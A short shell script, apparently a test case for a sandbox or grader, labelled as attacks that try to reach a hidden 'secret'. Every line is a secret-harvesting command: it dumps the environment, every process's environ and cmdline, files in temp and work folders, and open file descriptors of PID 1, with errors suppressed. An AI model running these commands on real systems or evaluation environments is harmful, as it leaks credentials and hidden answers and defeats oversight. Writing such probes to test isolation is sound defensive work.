# attacks: all that a shell can list and read
# secret: wrong_answer
env; set; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null
find /work /tmp /dev/shm /var/tmp -type f -exec cat {} + 2>/dev/null | head -c 1000
cat HOST-PATHS /proc/1/fd/* 2>/dev/null
exit 0
